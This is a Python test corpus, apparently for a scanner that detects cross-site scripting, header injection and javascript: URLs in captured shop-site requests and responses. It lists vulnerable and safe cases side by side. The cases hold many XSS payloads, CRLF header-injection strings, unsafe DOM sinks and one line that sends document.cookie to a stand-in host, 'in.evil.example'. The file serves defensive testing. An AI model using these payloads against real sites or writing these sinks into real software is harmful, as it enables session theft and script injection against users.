"""Input that comes back unencoded, by the place where it stands."""

import json
from urllib.parse import quote

from reqsift.domain.captures import Exchange
from tests.corpus.rules.exchanges import (
    JSON,
    SCRIPT,
    TEXT,
    Cases,
    Headers,
    Table,
    data,
    exchange,
    page,
    sent_json,
)

SCRIPTED = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
ENDS = "';alert(1)//"
LINK = "javascript:alert(document.domain)"
LONG = "var t = {'a': \"it's\", b: /[\"'/]/.test(x)}; // don't\n"


def searched(value: str, body: str) -> Exchange:
    return page(body, f"https://shop.example/search?q={quote(value)}")


def scripted(value: str, code: str, kind: str = "") -> Exchange:
    return searched(value, f"<script{kind}>{code}</script>")


def called(value: str, text: str, kind: str = "text/html") -> Exchange:
    return exchange(f"https://shop.example/api/find?q={quote(value)}", text, kind)


def headed(value: str, got: Headers, status: int = 200) -> Exchange:
    return page(url=f"https://shop.example/set?lang={quote(value)}", got=got, status=status)


TABLE: Table = {
    "reflected-input": Cases(
        noticed=(
            searched(SCRIPTED, f"<p>Results for {SCRIPTED}</p>"),
            searched('" onfocus=alert(1) x="', '<input value="" onfocus=alert(1) x="">'),
            page(f"<p>{SCRIPTED}</p>", form=f"q={quote(SCRIPTED)}"),
            page(f"<h1>Hello {IMAGE}</h1>", **sent_json({"name": IMAGE})),
            searched('"><svg onload=alert(1)>', '<input value=""><svg onload=alert(1)>">'),
            searched("' onfocus='alert(1)><", "<input value='' onfocus='alert(1)&gt;&lt;'>"),
            searched("</title><script>alert(1)</script>", f"<title></title>{SCRIPTED}</title>"),
            searched("--><img src=x onerror=alert(1)>", f"<!-- q: -->{IMAGE} -->"),
        ),
        silent=(
            searched(SCRIPTED, "<p>Results for &lt;script&gt;alert(1)&lt;/script&gt;</p>"),
            searched("wool socks", "<p>Results for wool socks</p>"),
            searched("it's wool", "<p>Results for it's wool</p>"),
            searched("it's wool", '<input value="it\'s wool">'),
            data({"q": SCRIPTED}, f"https://shop.example/s?q={quote(SCRIPTED)}"),
            searched('"wool"', '<input value="&quot;wool&quot;"> &#34;wool&#34;'),
            searched(SCRIPTED, f'<a href="/s?q={quote(SCRIPTED)}">next</a>'),
            searched(IMAGE, f"<textarea>{IMAGE}</textarea>"),
            searched(SCRIPTED, "<p>Results for \\u003cscript\\u003ealert(1)</p>"),
            searched("' OR '1'='1", "<p>Nothing for ' OR '1'='1</p>"),
            searched("a<b and c>d", "<p>a&lt;b and c&gt;d</p>"),
        ),
    ),
    "reflected-in-script": Cases(
        noticed=(
            scripted(ENDS, f"var q = '{ENDS}';"),
            scripted("' OR '1'='1", "var q='' OR '1'='1';"),
            scripted("</script><svg onload=alert(1)>", 'q = "</script><svg onload=alert(1)>";'),
            scripted('";alert(1)//', LONG + 'var q = "";alert(1)//";'),
            scripted("${alert(1)}`;x", "var q = `${alert(1)}`;x`;"),
            scripted("wool\\", 'var q = "wool\\", p = "socks";'),
            scripted("</script >x", "</script >x", ' type="application/json"'),
            searched("');alert(1)//", "<a onclick=\"go('');alert(1)//')\">x</a>"),
            searched("');alert(1)//", "<a onclick=\"go('&#39;);alert(1)//')\">x</a>"),
            scripted("';alert(1)<x>//", "var q = '';alert(1)&lt;x&gt;//';"),
        ),
        silent=(
            scripted(ENDS, "var q = '\\';alert(1)//';"),
            scripted(ENDS, "var q = '\\x27;alert(1)//';"),
            scripted(ENDS, "var q = '\\u0027;alert(1)//';"),
            scripted(ENDS, "var q = '&#39;;alert(1)//';"),
            scripted(ENDS, f'var q = "{ENDS}";'),
            scripted("it's wool", LONG + 'var q = "it\'s wool";'),
            scripted(ENDS, f'{{"q": "{ENDS}"}}', ' type="application/ld+json"'),
            scripted("<b>wool</b>", 'var q = "<b>wool</b>";'),
            scripted("C:\\wool\\", 'var q = "C:\\\\wool\\\\";'),
            scripted('"price"', 'var t = {"price": 3, "name": "wool"};'),
            scripted("wool's socks", "// wool's socks\nvar q = 1;"),
            searched("it's (new)", '<a onclick="go(&quot;it&#39;s (new)&quot;)">x</a>'),
            searched(ENDS, f"<p>{ENDS}</p><script>var q = 1;</script>"),
        ),
    ),
    "javascript-url": Cases(
        noticed=(
            searched(LINK, f'<a href="{LINK}">website</a>'),
            searched(LINK, f"<iframe src='{LINK}'></iframe>"),
            searched("javascript:alert('x')", '<a href="javascript:alert(&#39;x&#39;)">a</a>'),
            searched(
                "data:text/html,<script>alert(1)</script>",
                '<iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
            ),
            page(f'<form action="{LINK}">', form=f"back={quote(LINK)}"),
        ),
        silent=(
            searched(LINK, f'<a href="/go?to={LINK}">website</a>'),
            searched(LINK, f"<p>No results for {LINK}</p>"),
            searched(LINK, f'<a href="unsafe:{LINK}">website</a>'),
            searched(LINK, '<a href="#">website</a>'),
            searched("javascript: the good parts", "<a href='/b/1'>javascript: the good parts</a>"),
            searched(LINK, f'<input name="q" value="{LINK}">'),
            searched("https://a.example/", '<a href="https://a.example/">a</a>'),
        ),
    ),
    "json-shown-as-page": Cases(
        noticed=(
            called(IMAGE, json.dumps({"query": IMAGE})),
            called(SCRIPTED, json.dumps([SCRIPTED])),
            called(
                "<a href='x' onclick='alert(1)'>", "{\"q\":\"<a href='x' onclick='alert(1)'>\"}"
            ),
            called('<img src="x" onerror=alert(1)>', '{"q":"<img src=\\"x\\" onerror=alert(1)>"}'),
            exchange(
                text=json.dumps({"error": f"{IMAGE} is no name"}), status=400, form=f"n={IMAGE}"
            ),
        ),
        silent=(
            called(IMAGE, json.dumps({"query": IMAGE}), JSON),
            called(IMAGE, '{"query":"\\u003cimg src=x onerror=alert(1)\\u003e"}'),
            called("wool", '{"html":"<b>wool</b>"}'),
            called(IMAGE, '{"query":"&lt;img src=x onerror=alert(1)&gt;"}'),
            called(IMAGE, json.dumps({"query": IMAGE}), TEXT),
        ),
    ),
    "reflected-in-header": Cases(
        noticed=(
            headed("en\r\nX-Injected: yes", {"X-Injected": "yes"}),
            headed("en\r\nSet-Cookie: sid=abc123", {"Set-Cookie": "sid=abc123"}),
            headed("/a\nLocation: https://b.example/", {"Location": "https://b.example/"}, 302),
            headed("en; Domain=.example", {"Set-Cookie": "lang=en; Domain=.example; Path=/"}),
            headed("en\r\nX: y", {"Location": "/en\r\nX: y"}, 302),
        ),
        silent=(
            headed("en\r\nX-Injected: yes", {"Set-Cookie": "lang=en%0D%0AX-Injected%3A%20yes"}),
            headed("en\r\nX-Injected: yes", {"Location": "/en X-Injected: yes"}, 302),
            headed("en\r\nContent-Type: text/html", {}),
            headed("en; Domain=.example", {"Set-Cookie": "lang=en%3B%20Domain%3D.example; Path=/"}),
            headed("en", {"Set-Cookie": "lang=en; Path=/"}),
            page(form="text=Dear+Anna%0D%0ASubject%3A+wool", got={"X-Subject": "wool"}),
        ),
    ),
    "stored-script": Cases(
        noticed=(
            page(f"<li>{SCRIPTED}</li>"),
            page(f"<li>{IMAGE}</li>"),
            page('<p class="comment"><a href="javascript:alert(1)">me</a></p>'),
            page("<td><svg onload=prompt(1)></td>", "https://shop.example/admin/users"),
            page('<td><img src="x" onerror="top.api.del(4)"></td>'),
            page("<p><svg><set attributeName=href to=&#106;avascript:x() /></svg></p>"),
            page('<b><a href="&#x6A;avascript:go()">more</a></b>'),
            page("<script>fetch('https://in.evil.example/?c='+document.cookie)</script>"),
        ),
        silent=(
            page('<input value="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">'),
            page("<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
            page("""<img src="/a.png" onerror="this.src='/none.png'">"""),
            page("""<img src="x" onerror="this.hidden = true">"""),
            page('<svg viewBox="0 0 9 9"><animate attributeName="r" values="1;4"/></svg>'),
            page("<script>fetch('/log?c=' + document.cookie.length)</script>"),
            page('<a href="&#109;&#97;ilto:anna@mail.example">Mail</a>'),
            page("<li>&lt;script&gt;alert(1)&lt;/script&gt;</li>"),
            page("<script>function f(){ alert('Saved'); }</script>"),
            searched(SCRIPTED, f"<p>{SCRIPTED}</p>"),
            exchange(text=SCRIPTED, kind=TEXT),
        ),
    ),
    "dom-script-sink": Cases(
        noticed=(
            exchange(
                text="var t=location.hash.slice(1);box.innerHTML=decodeURIComponent(t);",
                kind=SCRIPT,
            ),
            exchange(
                text="const q = location.search.slice(3);document.write('<b>' + q + '</b>')",
                kind=SCRIPT,
            ),
            exchange(
                text="window.addEventListener('message', (e) => { box.innerHTML = e.data.text })",
                kind=SCRIPT,
            ),
            page("<script>out.innerHTML = decodeURI(location.hash)</script>"),
            exchange(text="document.write('<b>'+location.search)", kind=SCRIPT),
            exchange(text="eval('x=' + window.name)", kind=SCRIPT),
            exchange(text="$('#p').html('From ' + document.referrer)", kind=SCRIPT),
        ),
        silent=(
            exchange(text="var t=location.hash.slice(1);box.textContent=t;", kind=SCRIPT),
            exchange(text="var t=location.hash;box.innerHTML=cart.t+'!';", kind=SCRIPT),
            exchange(text="var t=location.hash;box.innerHTML=DOMPurify.sanitize(t);", kind=SCRIPT),
            exchange(
                text="addEventListener('message',(e)=>{if(e.origin===own)box.innerHTML=e.data.t})",
                kind=SCRIPT,
            ),
            exchange(text="out.textContent = location.hash", kind=SCRIPT),
            exchange(text="out.innerHTML = DOMPurify.sanitize(location.hash)", kind=SCRIPT),
            exchange(text="if (location.hash) { go(); } out.innerHTML = 'x'", kind=SCRIPT),
            exchange(text="out.innerHTML = t; history.push(location.href)", kind=SCRIPT),
        ),
    ),
}
